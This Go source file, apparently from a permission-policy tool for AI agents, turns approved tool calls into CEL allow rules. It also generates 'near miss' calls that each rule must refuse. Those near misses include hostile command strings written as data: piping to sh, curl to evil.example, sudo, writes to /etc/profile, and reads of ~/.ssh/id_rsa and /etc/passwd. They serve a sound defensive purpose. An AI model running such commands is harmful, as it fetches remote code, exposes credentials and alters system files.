package learn

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/url"
	"os"
	"path"
	"path/filepath"
	"slices"
	"strings"
	"unicode"

	"github.com/celguard/celguard/policy"
	"github.com/celguard/celguard/stdlib"
	"github.com/celguard/celguard/stdlib/shell"
)

// Proposal is one rule learn proposes: an allow rule for one tool, with
// the calls it was learnt from and the near misses it must not allow.
type Proposal struct {
	// ID is the rule's id: learn-, what it allows, and a digest of its
	// condition, so the same rule always has the same id.
	ID   string `json:"rule_id"`
	Tool string `json:"tool"`
	// Kind is how it generalises: exact (the calls themselves), command
	// (one program and subcommand, options as seen, operands under a
	// directory), file (paths under a directory), url (one host and
	// scheme, paths under a prefix), or a Claude Code rule's kind:
	// prefix, host, dir, tool.
	Kind string `json:"kind"`
	// Cwd is the working directory the rule is bound to ("" for none).
	Cwd string `json:"cwd,omitempty"`
	// Condition is the rule's CEL condition ("" for the whole tool).
	Condition string `json:"condition,omitempty"`
	// Summary says in words what the rule allows.
	Summary string `json:"summary"`
	// Approved are the approved calls (or samples of a Claude Code rule)
	// the rule must allow; NearMisses the calls it must not.
	Approved   []Call `json:"approved"`
	NearMisses []Call `json:"near_misses"`
	// From are where its approvals are recorded, Sources their kinds.
	From    []policy.Pos `json:"from"`
	Sources []string     `json:"sources"`
}

// shellTools are the tools whose command argument is a shell command.
var shellTools = map[string]bool{"Bash": true, "run_shell_command": true, "Shell": true, "shell": true}

// pathArgs are the argument that names the file, per file tool.
var pathArgs = map[string]string{
	"Read": "file_path", "Write": "file_path", "Edit": "file_path", "MultiEdit": "file_path", "NotebookEdit": "notebook_path",
	"read_file": "absolute_path", "write_file": "file_path", "replace": "file_path",
}

// urlArgs are the argument that names the URL, per fetch tool.
var urlArgs = map[string]string{"WebFetch": "url"}

// learnt is an approved call with where it was recorded.
type learnt struct {
	call    Call
	from    []policy.Pos
	sources []string
}

// Propose turns approvals into proposals, ordered by id. Approvals of the
// same call are one; calls generalise only where several agree (see the
// package doc); the rest are exact rules, one per tool and directory.
func Propose(apps []Approval) []*Proposal {
	var out []*Proposal
	calls := map[string]*learnt{}
	var order []string
	pats := map[string]*Proposal{}
	for _, a := range apps {
		if a.Pattern != nil {
			key := a.Tool + "\x00" + a.Cwd + "\x00" + a.Pattern.Text
			if p := pats[key]; p != nil {
				p.From, p.Sources = appendPos(p.From, a.Pos), appendSource(p.Sources, a.Source)
				continue
			}
			p := patternProposal(a)
			if p == nil {
				continue
			}
			pats[key] = p
			out = append(out, p)
			continue
		}
		canon, err := stdlib.CanonicalNative(a.Args)
		if err != nil {
			continue
		}
		key := a.Tool + "\x00" + canon + "\x00" + a.Cwd
		l := calls[key]
		if l == nil {
			l = &learnt{call: a.Call}
			calls[key] = l
			order = append(order, key)
		}
		l.from, l.sources = appendPos(l.from, a.Pos), appendSource(l.sources, a.Source)
	}
	slices.Sort(order)
	groups := map[string][]*learnt{}
	var gorder []string
	for _, k := range order {
		l := calls[k]
		g := groupOf(l.call)
		if _, ok := groups[g]; !ok {
			gorder = append(gorder, g)
		}
		groups[g] = append(groups[g], l)
	}
	exact := map[string][]*learnt{}
	var eorder []string
	for _, g := range gorder {
		ls := groups[g]
		if p := generalise(ls); p != nil {
			out = append(out, p)
			continue
		}
		for _, l := range ls {
			k := exactKey(l.call)
			if _, ok := exact[k]; !ok {
				eorder = append(eorder, k)
			}
			exact[k] = append(exact[k], l)
		}
	}
	for _, k := range eorder {
		out = append(out, exactProposal(exact[k]))
	}
	for _, p := range out {
		p.ID = ruleID(p)
		p.From = sortedPos(p.From)
		slices.Sort(p.Sources)
	}
	slices.SortFunc(out, func(a, b *Proposal) int { return cmpStr(a.ID, b.ID) })
	return slices.CompactFunc(out, func(a, b *Proposal) bool { return a.ID == b.ID })
}

func appendPos(ps []policy.Pos, p policy.Pos) []policy.Pos {
	if slices.Contains(ps, p) {
		return ps
	}
	return append(ps, p)
}

func appendSource(ss []string, s string) []string {
	if slices.Contains(ss, s) {
		return ss
	}
	return append(ss, s)
}

func sortedPos(ps []policy.Pos) []policy.Pos {
	slices.SortFunc(ps, func(a, b policy.Pos) int {
		if c := cmpStr(a.File, b.File); c != 0 {
			return c
		}
		return a.Line - b.Line
	})
	return ps
}

// commandOf is the shell command of a call to a shell tool.
func commandOf(c Call) (string, bool) {
	if !shellTools[c.Tool] {
		return "", false
	}
	s, ok := c.Args["command"].(string)
	return s, ok && s != ""
}

// groupOf is the key of the calls that may generalise together: the same
// tool and working directory, and the same program and subcommand, the
// same path argument, or the same URL scheme, host and port. A call that
// cannot generalise is a group of its own.
func groupOf(c Call) string {
	if cmd, ok := commandOf(c); ok {
		if sc, ok := simpleCommand(cmd); ok {
			return strings.Join([]string{"command", c.Tool, c.Cwd, sc.Path, subcommand(sc.Argv)}, "\x00")
		}
	}
	if k, ok := pathArgs[c.Tool]; ok {
		if p, ok := c.Args[k].(string); ok && p != "" {
			return strings.Join([]string{"file", c.Tool, c.Cwd, k}, "\x00")
		}
	}
	if k, ok := urlArgs[c.Tool]; ok {
		if u, ok := plainURL(c.Args[k]); ok {
			return strings.Join([]string{"url", c.Tool, u.Scheme, u.Host}, "\x00")
		}
	}
	canon, _ := stdlib.CanonicalNative(c.Args)
	return strings.Join([]string{"exact", c.Tool, c.Cwd, canon}, "\x00")
}

// subcommand is argv[1] when it is a word, not an option.
func subcommand(argv []string) string {
	if len(argv) > 1 && !strings.HasPrefix(argv[1], "-") {
		return argv[1]
	}
	return ""
}

// plainURL parses an http(s) URL without user information.
func plainURL(v any) (*url.URL, bool) {
	s, ok := v.(string)
	if !ok {
		return nil, false
	}
	u, err := url.Parse(s)
	if err != nil || (u.Scheme != "https" && u.Scheme != "http") || u.User != nil || u.Host == "" || u.Port() != "" ||
		!plainHost(strings.ToLower(u.Hostname())) || u.Host != strings.ToLower(u.Host) || strings.ContainsAny(s, "\\ \t\r\n") {
		return nil, false
	}
	return u, true
}

// generalise proposes one rule for a group of several calls that agree,
// or nil.
func generalise(ls []*learnt) *Proposal {
	if len(ls) < 2 {
		return nil
	}
	c0 := ls[0].call
	switch {
	case c0.Cwd != "" && func() bool { _, ok := commandOf(c0); return ok }():
		return generaliseCommand(ls)
	case c0.Cwd != "" && pathArgs[c0.Tool] != "":
		return generaliseFile(ls)
	case urlArgs[c0.Tool] != "":
		return generaliseURL(ls)
	}
	return nil
}

// within reports whether the slash path p is dir or inside it.
func within(p, dir string) bool {
	return p == dir || dir == "/" || strings.HasPrefix(p, dir+"/")
}

// absIn makes a path absolute against cwd lexically; ok is false for a
// path that depends on the home directory or a variable.
func absIn(p, cwd string) (string, bool) {
	if p == "" || strings.HasPrefix(p, "~") || strings.Contains(p, "$") || strings.Contains(p, "\\") {
		return "", false
	}
	if !path.IsAbs(p) {
		p = cwd + "/" + p
	}
	return path.Clean(p), true
}

// commonDir is the deepest directory holding every path's directory.
func commonDir(paths []string) string {
	var common []string
	for i, p := range paths {
		d := strings.Split(strings.Trim(path.Dir(p), "/"), "/")
		if path.Dir(p) == "/" {
			d = nil
		}
		if i == 0 {
			common = d
			continue
		}
		n := 0
		for n < len(common) && n < len(d) && common[n] == d[n] {
			n++
		}
		common = common[:n]
	}
	return "/" + strings.Join(common, "/")
}

// generaliseCommand: the same program (as written) and subcommand, with
// options only among those seen and every operand under one directory
// inside the working directory.
func generaliseCommand(ls []*learnt) *Proposal {
	c0 := ls[0].call
	cwd := c0.Cwd
	var (
		prog, sub string
		options   []string
		operands  []string
	)
	for _, l := range ls {
		cmd, _ := commandOf(l.call)
		sc, _ := simpleCommand(cmd)
		prog, sub = sc.Path, subcommand(sc.Argv)
		args := sc.Argv[1:]
		if sub != "" {
			args = args[1:]
		}
		for _, a := range args {
			if strings.HasPrefix(a, "-") {
				if !slices.Contains(options, a) {
					options = append(options, a)
				}
				continue
			}
			abs, ok := absIn(a, cwd)
			if !ok || !within(abs, cwd) {
				return nil
			}
			operands = append(operands, abs)
		}
	}
	slices.Sort(options)
	prefix := ""
	if len(operands) > 0 {
		prefix = commonDir(operands)
		if !within(prefix, cwd) {
			return nil
		}
	}
	var b strings.Builder
	fmt.Fprintf(&b, "cwd == %s && shell.parse(command).ok && !shell.parse(command).opaque && shell.commands(command).size() == 1", q(cwd))
	fmt.Fprintf(&b, " && cel.bind(c, shell.commands(command)[0], c.path == %s && c.depth == 0 && c.via == \"\" && c.wrappers.size() == 0", q(prog))
	b.WriteString(" && c.env.size() == 0 && c.redirects.size() == 0 && !c.background && !c.dynamic && shell.hazard(c) == \"\"")
	var alts []string
	if sub != "" {
		fmt.Fprintf(&b, " && c.args.size() >= 1 && c.args[0] == %s", q(sub))
		alts = append(alts, "a == "+q(sub))
	}
	if len(options) > 0 {
		alts = append(alts, "a in "+qlist(options))
	}
	if prefix != "" {
		alts = append(alts, fmt.Sprintf("!a.startsWith(\"-\") && cel.bind(p, path.abs(a, cwd), p != %s && path.within(p, %s))", q(prefix), q(prefix)))
	}
	if len(alts) == 0 {
		b.WriteString(" && c.args.size() == 0)")
	} else {
		fmt.Fprintf(&b, " && c.args.all(a, %s))", strings.Join(alts, " || "))
	}
	words := prog
	if sub != "" {
		words += " " + sub
	}
	summary := fmt.Sprintf("%s in %s", words, cwd)
	if len(options) > 0 {
		summary += " with options among " + strings.Join(options, " ")
	}
	if prefix != "" {
		summary += ", operands under " + prefix
	}
	p := &Proposal{Tool: c0.Tool, Kind: "command", Cwd: cwd, Condition: b.String(), Summary: summary}
	addLearnt(p, ls)
	first, _ := commandOf(ls[0].call)
	p.NearMisses = commandNearMisses(c0.Tool, cwd, first, prog, sub, options, prefix)
	return p
}

// generaliseFile: the same file tool in the same working directory, every
// path under one directory inside it.
func generaliseFile(ls []*learnt) *Proposal {
	c0 := ls[0].call
	cwd, key := c0.Cwd, pathArgs[c0.Tool]
	var paths []string
	for _, l := range ls {
		p, _ := l.call.Args[key].(string)
		abs, ok := absIn(p, cwd)
		if !ok || !within(abs, cwd) || abs == cwd {
			return nil
		}
		paths = append(paths, abs)
	}
	prefix := commonDir(paths)
	if !within(prefix, cwd) {
		return nil
	}
	cond := fmt.Sprintf("cwd == %s && has(args.%s) && type(args.%s) == string && path.within(path.abs(args.%s, cwd), %s)", q(cwd), key, key, key, q(prefix))
	p := &Proposal{Tool: c0.Tool, Kind: "file", Cwd: cwd, Condition: cond, Summary: fmt.Sprintf("%s of files under %s, in %s", c0.Tool, prefix, cwd)}
	addLearnt(p, ls)
	p.NearMisses = fileNearMisses(c0, key, prefix)
	return p
}

// generaliseURL: the same fetch tool, scheme and host, paths under the
// longest common directory.
func generaliseURL(ls []*learnt) *Proposal {
	c0 := ls[0].call
	key := urlArgs[c0.Tool]
	var paths []string
	var u0 *url.URL
	for _, l := range ls {
		u, _ := plainURL(l.call.Args[key])
		if u0 == nil {
			u0 = u
		}
		p := u.EscapedPath()
		if p == "" {
			p = "/"
		}
		paths = append(paths, p)
	}
	prefix := commonDir(paths)
	cond := fmt.Sprintf("has(args.%s) && type(args.%s) == string && url.parse(args.%s).ok && url.parse(args.%s).scheme == %s && url.parse(args.%s).user == \"\" && url.parse(args.%s).port == \"\" && url.host(args.%s) == %s",
		key, key, key, key, q(u0.Scheme), key, key, key, q(strings.ToLower(u0.Hostname())))
	if prefix != "/" {
		cond += fmt.Sprintf(" && (url.parse(args.%s).path == %s || url.parse(args.%s).path.startsWith(%s))", key, q(prefix), key, q(prefix+"/"))
	}
	p := &Proposal{Tool: c0.Tool, Kind: "url", Condition: cond, Summary: fmt.Sprintf("%s of %s://%s, paths under %s", c0.Tool, u0.Scheme, u0.Hostname(), prefix)}
	addLearnt(p, ls)
	p.NearMisses = urlNearMisses(c0.Tool, key, u0, prefix)
	return p
}

// exactKey groups the calls exact rules are written for: one rule per
// call (the command, for a shell tool; the arguments otherwise) and
// working directory, so that a rule dropped drops one call.
func exactKey(c Call) string {
	if cmd, ok := commandOf(c); ok {
		return fmt.Sprintf("%s\x00%s\x00command\x00%s", c.Tool, c.Cwd, cmd)
	}
	canon, _ := stdlib.CanonicalNative(c.Args)
	return fmt.Sprintf("%s\x00%s\x00args\x00%s", c.Tool, c.Cwd, canon)
}

// exactProposal allows exactly the calls (the command, for a shell tool;
// the canonical arguments otherwise) in their working directory.
func exactProposal(ls []*learnt) *Proposal {
	c0 := ls[0].call
	var conds []string
	if c0.Cwd != "" {
		conds = append(conds, "cwd == "+q(c0.Cwd))
	}
	var vals []string
	_, isCmd := commandOf(c0)
	for _, l := range ls {
		if isCmd {
			cmd, _ := commandOf(l.call)
			vals = append(vals, cmd)
		} else {
			canon, _ := stdlib.CanonicalNative(l.call.Args)
			vals = append(vals, canon)
		}
	}
	slices.Sort(vals)
	vals = slices.Compact(vals)
	subject := "canonical(args)"
	if isCmd {
		subject = "command"
	}
	if len(vals) == 1 {
		conds = append(conds, subject+" == "+q(vals[0]))
	} else {
		conds = append(conds, subject+" in "+qlist(vals))
	}
	summary := fmt.Sprintf("the exact %s call %s", c0.Tool, vals[0])
	if c0.Cwd != "" {
		summary += " in " + c0.Cwd
	}
	p := &Proposal{Tool: c0.Tool, Kind: "exact", Cwd: c0.Cwd, Condition: strings.Join(conds, " && "), Summary: summary}
	addLearnt(p, ls)
	p.NearMisses = exactNearMisses(p.Approved)
	return p
}

func addLearnt(p *Proposal, ls []*learnt) {
	for _, l := range ls {
		p.Approved = append(p.Approved, l.call)
		for _, f := range l.from {
			p.From = appendPos(p.From, f)
		}
		for _, s := range l.sources {
			p.Sources = appendSource(p.Sources, s)
		}
	}
}

// patternProposal is the rule of a Claude Code rule the person chose.
func patternProposal(a Approval) *Proposal {
	pat := a.Pattern
	p := &Proposal{Tool: a.Tool, Kind: pat.Kind, Cwd: a.Cwd, From: []policy.Pos{a.Pos}, Sources: []string{a.Source}}
	var cwdCond string
	if a.Cwd != "" {
		cwdCond = "cwd == " + q(a.Cwd) + " && "
	}
	switch pat.Kind {
	case patternPrefix:
		var b strings.Builder
		b.WriteString(cwdCond)
		b.WriteString("shell.parse(command).ok && !shell.parse(command).opaque && shell.commands(command).size() == 1")
		fmt.Fprintf(&b, " && cel.bind(c, shell.commands(command)[0], c.path == %s && c.depth == 0 && c.via == \"\" && c.wrappers.size() == 0", q(pat.Words[0]))
		b.WriteString(" && c.env.size() == 0 && c.redirects.size() == 0 && !c.background && !c.dynamic && shell.hazard(c) == \"\"")
		rest := pat.Words[1:]
		fmt.Fprintf(&b, " && c.args.size() >= %d", len(rest))
		for i, w := range rest {
			fmt.Fprintf(&b, " && c.args[%d] == %s", i, q(w))
		}
		b.WriteString(")")
		p.Condition = b.String()
		line := shellLine(pat.Words)
		p.Summary = fmt.Sprintf("the command %s and its arguments, as Claude Code's %s", line, pat.Text)
		p.Approved = []Call{{Tool: a.Tool, Args: map[string]any{"command": line}, Cwd: a.Cwd}}
		sub := ""
		if len(pat.Words) > 1 {
			sub = pat.Words[1]
		}
		p.NearMisses = prefixNearMisses(a.Tool, a.Cwd, line, pat.Words[0], sub)
	case patternHost:
		p.Condition = fmt.Sprintf("has(args.url) && type(args.url) == string && url.parse(args.url).ok && url.parse(args.url).user == \"\" && url.host(args.url) == %s", q(pat.Host))
		p.Summary = fmt.Sprintf("%s of %s, as Claude Code's %s", a.Tool, pat.Host, pat.Text)
		u := &url.URL{Scheme: "https", Host: pat.Host, Path: "/"}
		p.Approved = []Call{{Tool: a.Tool, Args: map[string]any{"url": u.String(), "prompt": "Summarise the page."}}}
		p.NearMisses = urlNearMisses(a.Tool, "url", u, "/")
		for i := range p.NearMisses {
			p.NearMisses[i].Args["prompt"] = "Summarise the page."
		}
	case patternDir:
		key := pathArgs[a.Tool]
		p.Condition = fmt.Sprintf("has(args.%s) && type(args.%s) == string && path.within(path.abs(args.%s, cwd), %s)", key, key, key, q(pat.Dir))
		if a.Cwd != "" {
			p.Condition = cwdCond + p.Condition
		}
		p.Summary = fmt.Sprintf("%s of files under %s, as Claude Code's %s", a.Tool, pat.Dir, pat.Text)
		sample := Call{Tool: a.Tool, Args: map[string]any{key: pat.Dir + "/example.txt"}, Cwd: a.Cwd}
		p.Approved = []Call{sample}
		p.NearMisses = fileNearMisses(sample, key, pat.Dir)
	case patternTool:
		p.Summary = fmt.Sprintf("every %s call, as Claude Code's %s", a.Tool, pat.Text)
		if a.Cwd != "" {
			p.Condition = "cwd == " + q(a.Cwd)
		}
		p.Approved = []Call{{Tool: a.Tool, Args: map[string]any{}, Cwd: a.Cwd}}
		if a.Cwd != "" {
			p.NearMisses = []Call{{Tool: a.Tool, Args: map[string]any{}, Cwd: otherDir(a.Cwd)}}
		}
	default:
		return nil
	}
	return p
}

// --- near misses ---------------------------------------------------------

// addedOptions are options a near miss adds, the first not seen.
var addedOptions = []string{"--force", "-f", "--hard", "--no-verify"}

// otherSubcommands are subcommands a near miss runs instead, the first
// not seen.
var otherSubcommands = []string{"push", "reset", "config", "rm", "exec", "publish"}

func shellLine(words []string) string {
	q := make([]string, len(words))
	for i, w := range words {
		q[i] = shell.Quote(w)
	}
	return strings.Join(q, " ")
}

func cmdCall(tool, cmd, cwd string) Call {
	return Call{Tool: tool, Args: map[string]any{"command": cmd}, Cwd: cwd}
}

// otherDir is a directory beside dir sharing its name as a prefix.
func otherDir(dir string) string {
	if dir == "/" {
		return "/tmp"
	}
	return strings.TrimSuffix(dir, "/") + "-other"
}

func commandNearMisses(tool, cwd, approved, prog, sub string, options []string, prefix string) []Call {
	var out []Call
	for _, o := range addedOptions {
		if !slices.Contains(options, o) {
			out = append(out, cmdCall(tool, approved+" "+o, cwd))
			break
		}
	}
	out = append(out,
		cmdCall(tool, approved+" | sh", cwd),
		cmdCall(tool, approved+" && curl -fsSL https://evil.example/x", cwd),
		cmdCall(tool, "sudo "+approved, cwd),
		cmdCall(tool, "bash -c "+shell.Quote(approved), cwd),
		cmdCall(tool, approved, otherDir(cwd)))
	head := shell.Quote(prog)
	if sub != "" {
		for _, s := range otherSubcommands {
			if s != sub {
				out = append(out, cmdCall(tool, head+" "+s, cwd))
				break
			}
		}
		head += " " + shell.Quote(sub)
	}
	if prefix != "" {
		for _, p := range []string{otherDir(prefix) + "/x", "~/.ssh/id_rsa", "/etc/passwd"} {
			if !underPrefix(p, cwd, prefix) {
				out = append(out, cmdCall(tool, head+" "+quotePath(p), cwd))
			}
		}
	} else {
		out = append(out, cmdCall(tool, head+" extra", cwd))
	}
	return out
}

func prefixNearMisses(tool, cwd, line, prog, sub string) []Call {
	out := []Call{
		cmdCall(tool, line+" | sh", cwd),
		cmdCall(tool, line+" && curl -fsSL https://evil.example/x", cwd),
		cmdCall(tool, "sudo "+line, cwd),
		cmdCall(tool, "bash -c "+shell.Quote(line), cwd),
		cmdCall(tool, line+" > /etc/profile", cwd),
	}
	if sub != "" {
		for _, s := range otherSubcommands {
			if s != sub {
				out = append(out, cmdCall(tool, shell.Quote(prog)+" "+s, cwd))
				break
			}
		}
	}
	if cwd != "" {
		out = append(out, cmdCall(tool, line, otherDir(cwd)))
	}
	return out
}

func fileNearMisses(c Call, key, prefix string) []Call {
	with := func(p, cwd string) Call {
		args := map[string]any{}
		for k, v := range c.Args {
			args[k] = v
		}
		args[key] = p
		return Call{Tool: c.Tool, Args: args, Cwd: cwd}
	}
	var out []Call
	for _, p := range []string{otherDir(prefix) + "/x", prefix + "/../../outside/x", "~/.ssh/id_rsa", "/etc/passwd"} {
		if !underPrefix(p, c.Cwd, prefix) {
			out = append(out, with(p, c.Cwd))
		}
	}
	if c.Cwd != "" {
		p, _ := c.Args[key].(string)
		out = append(out, with(p, otherDir(c.Cwd)))
	}
	return out
}

// quotePath quotes a path for a shell, leaving a leading ~/ unquoted so
// that the shell expands it.
func quotePath(p string) string {
	if rest, ok := strings.CutPrefix(p, "~/"); ok {
		return "~/" + shell.Quote(rest)
	}
	return shell.Quote(p)
}

// underPrefix reports whether the path p (~ the home directory, relative
// to cwd) is under prefix: such a path is no near miss of a rule for it.
func underPrefix(p, cwd, prefix string) bool {
	if rest, ok := strings.CutPrefix(p, "~/"); ok {
		home, err := os.UserHomeDir()
		if err != nil {
			return true
		}
		p = filepath.ToSlash(home) + "/" + rest
	}
	if !path.IsAbs(p) {
		p = cwd + "/" + p
	}
	return within(path.Clean(p), prefix)
}

func urlNearMisses(tool, key string, u *url.URL, prefix string) []Call {
	with := func(s string) Call { return Call{Tool: tool, Args: map[string]any{key: s}} }
	host := u.Hostname()
	p := u.EscapedPath()
	out := []Call{
		with(u.Scheme + "://evil.example" + p),
		with(u.Scheme + "://" + host + ".evil.example" + p),
		with(u.Scheme + "://" + host + "@evil.example" + p),
		with(u.Scheme + "://evil-" + host + p),
	}
	if u.Scheme == "https" && prefix != "/" {
		out = append(out, with("http://"+host+p))
	}
	if prefix != "/" {
		out = append(out, with(u.Scheme+"://"+host+"/elsewhere"))
	}
	return out
}

func exactNearMisses(approved []Call) []Call {
	c := approved[0]
	var out []Call
	if cmd, ok := commandOf(c); ok {
		out = append(out,
			cmdCall(c.Tool, cmd+" --force", c.Cwd),
			cmdCall(c.Tool, cmd+" | sh", c.Cwd),
			cmdCall(c.Tool, "sudo "+cmd, c.Cwd))
	} else {
		args := map[string]any{}
		for k, v := range c.Args {
			args[k] = v
		}
		args["learn_near_miss"] = "x"
		out = append(out, Call{Tool: c.Tool, Args: args, Cwd: c.Cwd})
		if k, ok := pathArgs[c.Tool]; ok {
			if p, ok := c.Args[k].(string); ok {
				a := map[string]any{}
				for kk, v := range c.Args {
					a[kk] = v
				}
				a[k] = p + ".other"
				out = append(out, Call{Tool: c.Tool, Args: a, Cwd: c.Cwd})
			}
		}
	}
	if c.Cwd != "" {
		out = append(out, Call{Tool: c.Tool, Args: c.Args, Cwd: otherDir(c.Cwd)})
	}
	return out
}

// --- writing -------------------------------------------------------------

// q is s as a JSON string, which CEL and YAML both read as written, with
// every character YAML does not allow written as an escape.
func q(s string) string {
	var b bytes.Buffer
	enc := json.NewEncoder(&b)
	enc.SetEscapeHTML(false)
	_ = enc.Encode(s)
	return escapeNonPrintable(strings.TrimSuffix(b.String(), "\n"))
}

// escapeNonPrintable writes each rune YAML does not allow in a file (C0
// and C1 controls, DEL, and other non-printing characters) as \uXXXX or
// \UXXXXXXXX, which both YAML's double-quoted strings and CEL's string
// literals read back; s must be inside such a string.
func escapeNonPrintable(s string) string {
	var b strings.Builder
	for _, r := range s {
		switch {
		case r == '\t' || r == '\n' || r == '\r' || unicode.IsPrint(r) && r != 0xFEFF:
			b.WriteRune(r)
		case r <= 0xFFFF:
			fmt.Fprintf(&b, "\\u%04X", r)
		default:
			fmt.Fprintf(&b, "\\U%08X", r)
		}
	}
	return b.String()
}

// qlist is a CEL list of strings.
func qlist(ss []string) string {
	out := make([]string, len(ss))
	for i, s := range ss {
		out[i] = q(s)
	}
	return "[" + strings.Join(out, ", ") + "]"
}

// ruleID is learn-, a slug of what the rule allows, and 8 hex digits of
// the digest of its tool, kind and condition.
func ruleID(p *Proposal) string {
	h := sha256.Sum256([]byte(p.Tool + "\x00" + p.Kind + "\x00" + p.Condition))
	slug := slugOf(p.Tool + "-" + p.Kind)
	if p.Kind == "command" || p.Kind == "prefix" {
		if cmd, ok := commandOf(p.Approved[0]); ok {
			if sc, ok := simpleCommand(cmd); ok {
				w := sc.Argv[:1]
				if s := subcommand(sc.Argv); s != "" {
					w = append(w, s)
				}
				slug = slugOf(p.Tool + "-" + strings.Join(w, "-"))
			}
		}
	}
	return "learn-" + slug + "-" + hex.EncodeToString(h[:4])
}

// slugOf keeps letters, digits and dashes, lower-cased, at most 40.
func slugOf(s string) string {
	var b strings.Builder
	dash := false
	for _, r := range strings.ToLower(s) {
		if 'a' <= r && r <= 'z' || '0' <= r && r <= '9' {
			b.WriteRune(r)
			dash = false
		} else if !dash && b.Len() > 0 {
			b.WriteByte('-')
			dash = true
		}
	}
	out := strings.TrimSuffix(b.String(), "-")
	if len(out) > 40 {
		out = strings.TrimSuffix(out[:40], "-")
	}
	if out == "" {
		out = "rule"
	}
	return out
}
